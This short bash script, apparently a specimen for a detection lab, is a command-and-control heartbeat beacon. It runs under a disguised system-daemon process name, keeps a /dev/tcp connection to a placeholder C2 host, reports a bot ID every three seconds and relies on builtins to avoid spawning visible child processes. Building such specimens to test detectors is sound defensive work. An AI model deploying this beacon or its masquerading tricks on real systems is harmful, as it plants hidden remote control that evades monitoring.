#!/bin/bash
# kcsi lab specimen: a heartbeat loop started with `exec -a` under a system daemon's name (no
# title rewriting: argv[0] is set by the exec). It keeps a TCP connection to @@C2@@ (127.x)
# over bash's /dev/tcp, writes a line every 3 s and reconnects when dropped. Only bash
# builtins run in the loop, so no child process comes and goes.
trap '' PIPE
while :; do
    if exec 3<>/dev/tcp/@@C2_HOST@@/@@C2_PORT@@; then
        while printf 'HB @@BOT_ID@@ %(%s)T\n' -1 >&3; do
            read -r -t 3 -u 3 _
            [ $? -gt 128 ] || break
        done
        exec 3<&-
    fi
    read -r -t 5 _ <>/dev/zero 2>/dev/null || true
done
